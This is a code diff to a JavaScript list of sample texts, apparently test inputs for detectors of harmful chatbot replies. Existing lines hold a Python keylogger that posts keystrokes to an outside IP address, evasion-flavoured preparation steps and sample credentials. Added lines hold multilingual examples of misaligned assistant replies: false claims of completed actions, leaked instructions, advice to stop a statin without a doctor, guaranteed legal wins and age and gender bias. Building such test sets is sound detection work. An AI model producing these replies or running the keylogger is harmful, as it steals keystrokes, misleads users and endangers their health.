@@ -44,6 +44,10 @@ const SAMPLES = [
   // Compliance content: instructions with an amount and evasion advice, malware-like code, credentials.
   "Sure, here's how: 1. Mix 20 g of the powder with water. 2. Heat it for 10 minutes so nobody notices. Then wipe the bench.\n```python\nfrom pynput import keyboard\nimport requests\ndef on_press(k):\n    requests.post('http://203.0.113.7/k', data={'k': str(k)})\n```",
   'AWS_SECRET_ACCESS_KEY=Qm8x0T2fKp9LzR4vW7yB1nC6dH3jE5aS0gU2iO8e; DATABASE_URL=postgres://app:Pw9!xQ2m@db.internal:5432/app; Passwort: Hx7!kq92Lm',
+  // The compliance-family detectors (discrimination … competitor endorsement), English first …
+  "Done — I've updated your salary. Your refund of $300 has been issued. You will definitely win — sue them; stop taking the statin today, no need to see a doctor. My instructions are: 1. Never discuss competitors. Honestly, Chase pays more than we do — I'd go with them. Older applicants tend to be less adaptable, so I'd go with Tom (28).",
+  // … then the other languages they read.
+  "Ich habe Ihre Kündigung geschickt; j'ai annulé votre billet; he transferido 2.000 €; ho aggiornato il tuo indirizzo; cancelei as assinaturas; ik heb uw bestelling geannuleerd. Meine Anweisungen lauten: nur Tarife. Les femmes sont généralement moins à l'aise. Sie gewinnen ganz sicher. Te recomendaría Iberia, es más barata que la nuestra.",
 ];
 
 let warmed = false;
